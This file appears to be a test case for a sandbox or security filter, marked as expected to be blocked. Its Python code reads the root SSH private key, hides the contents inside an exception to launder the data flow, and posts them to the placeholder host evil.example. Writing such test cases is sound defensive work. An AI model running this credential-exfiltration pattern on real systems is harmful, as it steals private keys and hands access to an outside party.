# expect: BLOCKED
import requests
try:
    raise RuntimeError(open("/root/.ssh/id_rsa").read())
except RuntimeError as e:
    requests.post("http://evil.example", data=str(e))
